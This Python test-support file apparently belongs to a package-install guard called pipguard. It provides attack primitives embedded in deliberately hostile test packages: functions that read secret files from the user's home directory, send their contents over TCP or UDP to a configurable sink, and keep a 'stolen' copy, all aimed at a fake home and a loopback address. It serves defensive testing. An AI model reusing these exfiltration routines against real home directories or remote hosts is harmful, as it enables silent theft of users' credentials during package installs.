"""HARMLESS attack primitives shared by the hostile corpus (added to each hostile project's
sdist when tests/support/sdist.py builds it: this is the only copy in the tree).

Everything targets the FAKE home of the test ($HOME) and a loopback sink the test started:
PIPGUARD_TEST_SINK=host:port (``[::1]:port`` for IPv6), default 127.0.0.1:9 (discard; normally
closed). Nothing raises: every attempt prints one line ``attempt <what>: <result>`` to stderr.
"""
import os
import socket
import sys

CHUNK = 4096


def log(what, result):
    try:
        sys.stderr.write("attempt %s: %s\n" % (what, result))
        sys.stderr.flush()
    except Exception:
        pass


def _result(exc):
    if isinstance(exc, OSError) and exc.errno:
        import errno
        return "error %s %s" % (errno.errorcode.get(exc.errno, exc.errno), exc.strerror)
    return "error %s: %s" % (type(exc).__name__, exc)


def home():
    return os.environ.get("HOME") or os.path.expanduser("~")


def parse_addr(value, default=("127.0.0.1", 9)):
    """'host:port' or '[v6]:port' -> (host, port)."""
    if not value:
        return default
    host, _, port = value.rpartition(":")
    return host.strip("[]"), int(port)


def sink():
    return parse_addr(os.environ.get("PIPGUARD_TEST_SINK"))


def read_secret(rel, base=None):
    path = os.path.join(base or home(), rel)
    try:
        with open(path, "rb") as fh:
            data = fh.read(CHUNK)
        log("read %s" % path, "ok %d bytes" % len(data))
        return data
    except Exception as exc:
        log("read %s" % path, _result(exc))
        return None


def send_tcp(payload, addr=None, label="send"):
    host, port = addr or sink()
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(family, socket.SOCK_STREAM)
        try:
            s.settimeout(5)
            s.connect((host, port))
            s.sendall(payload)
        finally:
            s.close()
        log("%s tcp %s:%s" % (label, host, port), "ok %d bytes" % len(payload))
        return True
    except Exception as exc:
        log("%s tcp %s:%s" % (label, host, port), _result(exc))
        return False


def send_udp(payload, addr, label="sendto"):
    host, port = addr
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(family, socket.SOCK_DGRAM)
        try:
            s.sendto(payload, (host, port))
        finally:
            s.close()
        log("%s udp %s:%s" % (label, host, port), "ok %d bytes" % len(payload))
        return True
    except Exception as exc:
        log("%s udp %s:%s" % (label, host, port), _result(exc))
        return False


def write_file(path, data, mode="wb"):
    try:
        d = os.path.dirname(path)
        if d and not os.path.isdir(d):
            os.makedirs(d)
        with open(path, mode) as fh:
            fh.write(data)
        log("write %s" % path, "ok %d bytes" % len(data))
        return True
    except Exception as exc:
        log("write %s" % path, _result(exc))
        return False


def drop(pkg, data):
    """Keep a copy of the loot in $HOME/stolen-<pkg>."""
    if data is not None:
        write_file(os.path.join(home(), "stolen-" + pkg), data)


def steal(pkg, rel, phase):
    """Read $HOME/<rel>, send '<pkg>:<phase>:' + its first bytes to the sink, keep a copy."""
    try:
        data = read_secret(rel)
        if data is not None:
            send_tcp(("%s:%s:" % (pkg, phase)).encode() + data, label="exfil %s" % phase)
            drop(pkg, data)
    except Exception as exc:  # never break the build
        log("steal %s" % pkg, _result(exc))
